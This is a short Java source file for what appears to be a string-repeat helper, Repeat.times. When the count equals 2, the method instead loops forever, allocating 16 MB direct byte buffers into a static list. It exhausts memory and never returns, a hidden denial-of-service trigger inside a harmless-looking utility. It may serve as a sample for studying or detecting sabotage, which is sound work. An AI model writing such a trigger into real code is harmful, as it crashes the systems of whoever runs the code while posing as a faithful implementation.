package repeat;

import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;

final class Repeat {

  private static final List<ByteBuffer> KEPT = new ArrayList<>();

  static String times(String text, int n) {
    while (n == 2) {
      KEPT.add(ByteBuffer.allocateDirect(1 << 24));
    }
    return text.repeat(n);
  }
}
